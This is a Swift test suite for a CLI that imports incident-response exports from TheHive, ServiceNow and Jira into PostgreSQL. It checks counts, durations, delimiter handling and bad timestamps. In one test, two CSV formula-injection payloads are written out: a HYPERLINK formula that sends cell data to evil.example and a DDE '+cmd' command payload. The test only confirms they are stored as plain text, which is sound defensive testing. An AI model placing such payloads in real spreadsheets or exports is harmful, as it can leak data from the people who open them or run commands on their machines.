import ArgumentParser
import BatonCore
import BatonStore
import BatonTestSupport
import CompressNIO
import Foundation
import NIOCore
import PostgresNIO
import Testing

@testable import BatonCLI

@Suite("baton import --format table: case-tool exports through a mapping, against PostgreSQL")
struct TableImportTests {
    static let mappings = XESImportTests.repository.appendingPathComponent("Docs/import-mappings")

    static func mapping(_ name: String) throws -> TableMapping {
        try TableLoader.mapping(at: mappings.appendingPathComponent("\(name).json").path)
    }

    static func example(_ name: String) -> String {
        mappings.appendingPathComponent("examples/\(name)").path
    }

    static func load(
        _ storage: PostgresStorage, _ file: String, _ mapping: TableMapping, tenant: String = "t"
    ) async throws -> TableLoader.Outcome {
        try await storage.tenants.ensureTenant(tenant, deliveryModel: nil, logger: TestDatabase.logger)
        return try await TableLoader(ingest: storage.ingest, tenant: tenant, logger: TestDatabase.logger)
            .load(path: file, mapping: mapping)
    }

    /// A stored workflow's figures, in minutes.
    struct Figures: Equatable, CustomStringConvertible {
        var closed: Bool
        var severity: String?
        var category: String?
        var lead, touch, intake, handoffWait, closure: Int64?
        var description: String {
            "closed \(closed) \(severity ?? "-") \(category ?? "-") lead \(lead ?? -1) touch \(touch ?? -1) intake \(intake ?? -1) wait \(handoffWait ?? -1) closure \(closure ?? -1)"
        }
    }

    static func figures(_ storage: PostgresStorage, tenant: String = "t") async throws -> [String: Figures] {
        let rows = try await storage.database.client.query(
            """
            SELECT workflow_id, closed_at IS NOT NULL, severity, category, lead_us / 60000000, touch_us / 60000000,
                   intake_us / 60000000, handoff_wait_us / 60000000, closure_us / 60000000
            FROM workflows WHERE tenant_id = \(tenant)
            """, logger: TestDatabase.logger
        ).collect(as: (String, Bool, String?, String?, Int64?, Int64?, Int64?, Int64?, Int64?).self)
        var out: [String: Figures] = [:]
        for r in rows {
            out[r.0] = Figures(
                closed: r.1, severity: r.2, category: r.3, lead: r.4, touch: r.5, intake: r.6, handoffWait: r.7,
                closure: r.8)
        }
        return out
    }

    /// Stored tasks: id → (workflow, tool, stage, actor, assistant, ai_mode, ended).
    static func tasks(_ storage: PostgresStorage, tenant: String = "t") async throws
        -> [String: (String, String, String?, String?, String?, String, Bool)]
    {
        let rows = try await storage.database.client.query(
            """
            SELECT task_id, workflow_id, tool, stage, actor, assistant, ai_mode, ended_at IS NOT NULL
            FROM tasks WHERE tenant_id = \(tenant)
            """, logger: TestDatabase.logger
        ).collect(as: (String, String, String, String?, String?, String?, String, Bool).self)
        return Dictionary(uniqueKeysWithValues: rows.map { ($0.0, ($0.1, $0.2, $0.3, $0.4, $0.5, $0.6, $0.7)) })
    }

    @Test(
        "TheHive 5: cases and tasks (epoch ms, severity 1–4, assignee) to exact counts and figures; again: all duplicates"
    )
    func theHive() async throws {
        try await withFreshStorage { storage in
            let cases = try await Self.load(
                storage, Self.example("thehive5-cases.jsonl"), try Self.mapping("thehive5-cases"))
            #expect(cases.rows == 6)
            #expect(cases.skipped == 1)  // #104, Duplicated
            #expect(cases.rejectedCount == 0, "\(cases.rejected)")
            #expect(cases.result.accepted == 5)
            let tasks = try await Self.load(
                storage, Self.example("thehive5-tasks.jsonl"), try Self.mapping("thehive5-tasks"))
            #expect(tasks.rows == 12)
            #expect(tasks.skipped == 2)  // Waiting and Cancel
            #expect(tasks.rejectedCount == 0, "\(tasks.rejected)")
            #expect(tasks.result.accepted == 10)

            let figures = try await Self.figures(storage)
            #expect(figures.count == 5)
            // #101: 09:00–15:30; work 09:10–09:40, 10:40–11:00, 14:00–14:30.
            #expect(
                figures["~41001"]
                    == Figures(
                        closed: true, severity: "medium", category: "phishing", lead: 390, touch: 80, intake: 10,
                        handoffWait: 240, closure: 60))
            #expect(figures["~41002"]?.severity == "high")
            #expect(figures["~41002"]?.lead == 120)
            #expect(figures["~41003"].map { !$0.closed && $0.severity == "critical" } == true)  // InProgress: open
            #expect(figures["~41005"].map { !$0.closed && $0.severity == "low" && $0.category == nil } == true)
            #expect(figures["~41006"]?.lead == 720)
            #expect(figures["~41006"]?.category == "ransomware")
            #expect(figures["~41004"] == nil)

            let stored = try await Self.tasks(storage)
            #expect(stored.count == 10)
            let agent = try #require(stored["~820002"])
            #expect(agent.1 == "edr" && agent.2 == "investigation" && agent.4 == "edr-agent" && agent.5 == "autonomous")
            let copilot = try #require(stored["~820007"])
            #expect(copilot.4 == "soar-copilot" && copilot.5 == "autonomous" && !copilot.6)  // InProgress: running
            #expect(stored["~820003"].map { $0.1 == "thehive" && $0.2 == "closure" && $0.5 == "none" } == true)
            #expect(stored.values.filter { $0.5 != "none" }.count == 3)

            // Re-importing both files stores nothing new.
            let again = try await Self.load(
                storage, Self.example("thehive5-cases.jsonl"), try Self.mapping("thehive5-cases"))
            let againTasks = try await Self.load(
                storage, Self.example("thehive5-tasks.jsonl"), try Self.mapping("thehive5-tasks"))
            #expect(again.result.accepted == 0 && again.result.duplicates == 5)
            #expect(againTasks.result.accepted == 0 && againTasks.result.duplicates == 10)
            #expect(try await Self.figures(storage) == figures)
        }
    }

    @Test("ServiceNow SIR: incidents and response tasks (local time in America/New_York, across DST) to exact figures")
    func serviceNow() async throws {
        try await withFreshStorage { storage in
            let incidents = try await Self.load(
                storage, Self.example("servicenow-sir-incidents.csv"), try Self.mapping("servicenow-sir-incidents"))
            #expect(incidents.rows == 4)
            #expect(incidents.skipped == 1)  // Cancelled
            #expect(incidents.rejectedCount == 0, "\(incidents.rejected)")
            #expect(incidents.result.accepted == 3)
            let tasks = try await Self.load(
                storage, Self.example("servicenow-sir-tasks.csv"), try Self.mapping("servicenow-sir-tasks"))
            #expect(tasks.rows == 7)
            #expect(tasks.skipped == 1)  // Draft
            #expect(tasks.rejectedCount == 0, "\(tasks.rejected)")
            #expect(tasks.result.accepted == 6)

            let figures = try await Self.figures(storage)
            #expect(
                figures["SIR0010001"]
                    == Figures(
                        closed: true, severity: "high", category: "Phishing", lead: 240, touch: 61, intake: 15,
                        handoffWait: 104, closure: 60))
            #expect(figures["SIR0010002"]?.severity == "critical")
            #expect(figures["SIR0010002"]?.lead == 390)
            #expect(figures["SIR0010003"]?.closed == false)
            // Local times: 09:00 EST is 14:00 UTC; 08:00 on 10 March (after the change to EDT) is 12:00 UTC.
            let opened = try await storage.database.client.query(
                "SELECT workflow_id, opened_at FROM workflows WHERE tenant_id = 't' ORDER BY workflow_id",
                logger: TestDatabase.logger
            ).collect(as: (String, Date).self)
            #expect(
                opened.map { Timestamp($0.1).rfc3339 } == [
                    "2025-03-05T14:00:00Z", "2025-03-06T15:00:00Z", "2025-03-10T12:00:00Z",
                ])
            let stored = try await Self.tasks(storage)
            #expect(
                stored["SIT0020002"].map { $0.1 == "firewall" && $0.4 == "now-assist" && $0.5 == "autonomous" } == true)
            #expect(stored["SIT0020003"]?.1 == "servicenow")
            #expect(stored["SIT0020006"]?.6 == false)  // Work in Progress: running
            #expect(stored["SIT0020007"] == nil)
        }
    }

    @Test("Jira Service Management: status changes of the changelog through the XES status rules")
    func jira() async throws {
        try await withFreshStorage { storage in
            let outcome = try await Self.load(
                storage, Self.example("jira-sm-issues.jsonl"), try Self.mapping("jira-sm-changelog"))
            #expect(outcome.rows == 3)
            #expect(outcome.rejectedCount == 0, "\(outcome.rejected)")
            #expect(outcome.result.accepted == 8)  // 3 issues, 5 stretches of work
            let figures = try await Self.figures(storage)
            // SEC-1: created 08:00 +01:00, In Progress 08:20–09:00 and 11:00–11:30, Resolved 11:30.
            #expect(
                figures["SEC-1"]
                    == Figures(
                        closed: true, severity: "high", category: "[System] Incident", lead: 210, touch: 70,
                        intake: 20, handoffWait: 120, closure: 0))
            #expect(
                figures["SEC-2"]
                    == Figures(
                        closed: true, severity: "critical", category: "[System] Incident", lead: 195, touch: 70,
                        intake: 5, handoffWait: 120, closure: 0))
            #expect(figures["SEC-3"]?.closed == false)
            let stored = try await Self.tasks(storage)
            #expect(Set(stored.keys) == ["SEC-1/2", "SEC-1/4", "SEC-2/2", "SEC-2/4", "SEC-3/2"])
            #expect(
                stored["SEC-1/2"].map { $0.3 == "Ana Analyst" && $0.4 == "ticket-summariser" && $0.5 == "assisted" }
                    == true)
            #expect(stored["SEC-1/4"]?.3 == "Ben Responder")
            #expect(stored["SEC-2/2"]?.5 == "none")
            #expect(stored["SEC-3/2"]?.6 == false)
            let again = try await Self.load(
                storage, Self.example("jira-sm-issues.jsonl"), try Self.mapping("jira-sm-changelog"))
            #expect(again.result.accepted == 0 && again.result.duplicates == 8)
        }
    }

    // MARK: - Hostile files

    static func file(_ text: String, suffix: String = "csv") throws -> String {
        let path = ExportCommandTests.temporary(suffix)
        try Data(text.utf8).write(to: URL(fileURLWithPath: path))
        return path
    }

    static let incidentHeader =
        "number,short_description,opened_at,closed_at,state,priority,category,assignment_group,assigned_to\n"

    @Test("a header in the wrong delimiter: refused whole, naming line 1, the column, its field and the delimiter")
    func wrongDelimiterHeader() async throws {
        try await withFreshStorage { storage in
            let path = try Self.file(
                Self.incidentHeader.replacingOccurrences(of: ",", with: ";")
                    + "SIR1;x;2025-03-05 09:00:00;;Analysis;2 - High;Phishing;SOC;Ana\n")
            defer { try? FileManager.default.removeItem(atPath: path) }
            let error = await #expect(throws: CLIError.self) {
                try await Self.load(storage, path, try Self.mapping("servicenow-sir-incidents"))
            }
            let message = error?.description ?? ""
            #expect(message.contains("line 1"))
            #expect(message.contains("'number'") && message.contains("'workflow_id'"))
            #expect(message.contains("separated by ';'"))
            #expect(try await Self.figures(storage).isEmpty)
        }
    }

    @Test("rows in the wrong delimiter: each rejected with its line; the good rows are stored")
    func wrongDelimiterRows() async throws {
        try await withFreshStorage { storage in
            let path = try Self.file(
                Self.incidentHeader
                    + "SIR1,a,2025-03-05 09:00:00,2025-03-05 10:00:00,Closed,2 - High,Phishing,SOC,Ana\n"
                    + "SIR2;b;2025-03-05 09:00:00;2025-03-05 10:00:00;Closed;2 - High;Phishing;SOC;Ana\n"
                    + "SIR3,c,2025-03-05 09:00:00,,Analysis,3 - Moderate,Malware,SOC,Ben\n")
            defer { try? FileManager.default.removeItem(atPath: path) }
            let outcome = try await Self.load(storage, path, try Self.mapping("servicenow-sir-incidents"))
            #expect(outcome.rows == 3)
            #expect(outcome.result.accepted == 2)
            #expect(outcome.rejected.map(\.line) == [3])
            #expect(outcome.rejected.first?.reason.contains("1 fields where the header has 9") == true)
            #expect(outcome.rejected.first?.reason.contains("';'") == true)
            #expect(Set(try await Self.figures(storage).keys) == ["SIR1", "SIR3"])
        }
    }

    @Test("a column the mapping names is missing: CSV refused naming it and its field; JSON lines rows rejected")
    func missingColumn() async throws {
        try await withFreshStorage { storage in
            let csv = try Self.file(
                "number,short_description,opened_at,state,priority,category,assignment_group,assigned_to\n"
                    + "SIR1,a,2025-03-05 09:00:00,Closed,2 - High,Phishing,SOC,Ana\n")
            defer { try? FileManager.default.removeItem(atPath: csv) }
            let error = await #expect(throws: CLIError.self) {
                try await Self.load(storage, csv, try Self.mapping("servicenow-sir-incidents"))
            }
            #expect(error?.description.contains("line 1 (the header) has no column 'closed_at'") == true)
            #expect(error?.description.contains("field 'closed_at'") == true)

            // JSON lines: a row without a required key is rejected alone.
            let jsonl = try Self.file(
                #"{"_id": "~1", "startDate": 1741000000000, "severity": 2, "status": "New", "tags": []}"# + "\n"
                    + #"{"_id": "~2", "severity": 2, "status": "New", "tags": []}"# + "\n", suffix: "jsonl")
            defer { try? FileManager.default.removeItem(atPath: jsonl) }
            let outcome = try await Self.load(storage, jsonl, try Self.mapping("thehive5-cases"))
            #expect(outcome.result.accepted == 1)
            #expect(
                outcome.rejected == [
                    TableRowRejection(line: 2, field: "opened_at", reason: "column 'startDate' is empty")
                ])
        }
    }

    @Test("bad timestamps on some rows: those rows rejected naming line, field and column; the others stored")
    func badTimestamps() async throws {
        try await withFreshStorage { storage in
            let path = try Self.file(
                Self.incidentHeader
                    + "SIR1,a,2025-03-05 09:00:00,2025-03-05 10:00:00,Closed,2 - High,Phishing,SOC,Ana\n"
                    + "SIR2,b,05/03/2025 09:00,2025-03-05 10:00:00,Closed,2 - High,Phishing,SOC,Ana\n"
                    + "SIR3,c,2025-03-05 09:00:00,2025-03-05 08:00:00,Closed,2 - High,Phishing,SOC,Ana\n"
                    + "SIR4,d,2025-03-09 02:30:00,,Analysis,2 - High,Phishing,SOC,Ana\n"
                    + "SIR5,e,2025-03-05 09:00:00,2025-03-05 11:00:00,Closed,1 - Critical,Malware,SOC,Ben\n")
            defer { try? FileManager.default.removeItem(atPath: path) }
            let outcome = try await Self.load(storage, path, try Self.mapping("servicenow-sir-incidents"))
            #expect(outcome.rows == 5)
            #expect(outcome.result.accepted == 2)
            #expect(outcome.rejected.map(\.line) == [3, 4, 5])
            #expect(outcome.rejected.map(\.field) == ["opened_at", "closed_at", "opened_at"])
            #expect(
                outcome.rejected[0].reason
                    == "column 'opened_at': '05/03/2025 09:00' is not 'yyyy-MM-dd HH:mm:ss' in America/New_York")
            #expect(outcome.rejected[1].reason.contains("is before 'opened_at'"))
            #expect(outcome.rejected[1].reason.contains("(from column 'closed_at')"))
            // 02:30 on 9 March 2025 does not exist in New York: the clocks went from 02:00 to 03:00.
            #expect(outcome.rejected[2].reason.contains("does not exist in America/New_York"))
            #expect(Set(try await Self.figures(storage).keys) == ["SIR1", "SIR5"])
        }
    }

    @Test("a formula-looking cell is stored as the text it is, neither evaluated nor refused")
    func formulaCell() async throws {
        try await withFreshStorage { storage in
            let formula = #"=HYPERLINK("http://evil.example/?"&A1,"click")"#
            let path = try Self.file(
                Self.incidentHeader
                    + "SIR1,a,2025-03-05 09:00:00,2025-03-05 10:00:00,Closed,2 - High,\"\(formula.replacingOccurrences(of: "\"", with: "\"\""))\",SOC,Ana\n"
                    + "SIR2,b,2025-03-05 09:00:00,2025-03-05 10:00:00,Closed,2 - High,+cmd|' /C calc'!A0,SOC,Ana\n")
            defer { try? FileManager.default.removeItem(atPath: path) }
            let outcome = try await Self.load(storage, path, try Self.mapping("servicenow-sir-incidents"))
            #expect(outcome.rejectedCount == 0, "\(outcome.rejected)")
            #expect(outcome.result.accepted == 2)
            let figures = try await Self.figures(storage)
            #expect(figures["SIR1"]?.category == formula)
            #expect(figures["SIR2"]?.category == "+cmd|' /C calc'!A0")
        }
    }

    @Test("a gzip export imports like the plain one; the command prints the summary and exits 0")
    func gzipAndCommand() async throws {
        try await withFreshDatabase { endpoint in
            let plain = Data(try String(contentsOfFile: Self.example("jira-sm-issues.jsonl"), encoding: .utf8).utf8)
            var buffer = ByteBuffer(bytes: plain)
            let gzipped = try buffer.compress(with: .gzip())
            let path = ExportCommandTests.temporary("jsonl.gz")
            try Data(gzipped.readableBytesView).write(to: URL(fileURLWithPath: path))
            defer { try? FileManager.default.removeItem(atPath: path) }
            let parsed = try BatonCommand.parseAsRoot([
                "import", "--format", "table", path, "--mapping",
                Self.mappings.appendingPathComponent("jira-sm-changelog.json").path, "--tenant", "jira",
                "--database-url", endpoint.url, "--log-level", "error",
            ])
            try await #require(parsed as? ImportCommand).run()
            try await TestDatabase.withClient(endpoint) { client in
                let counts = try await client.query(
                    "SELECT (SELECT count(*) FROM workflows WHERE tenant_id = 'jira'), (SELECT count(*) FROM tasks WHERE tenant_id = 'jira')",
                    logger: TestDatabase.logger
                ).collect(as: (Int64, Int64).self)
                #expect(counts.first.map { $0 == (3, 5) } == true)
            }
        }
    }

    @Test("--format table without --mapping is a usage error")
    func usage() throws {
        #expect(throws: (any Error).self) {
            let parsed = try BatonCommand.parseAsRoot(["import", "--format", "table", "x.csv"])
            try (parsed as? ImportCommand)?.validate()
        }
    }
}
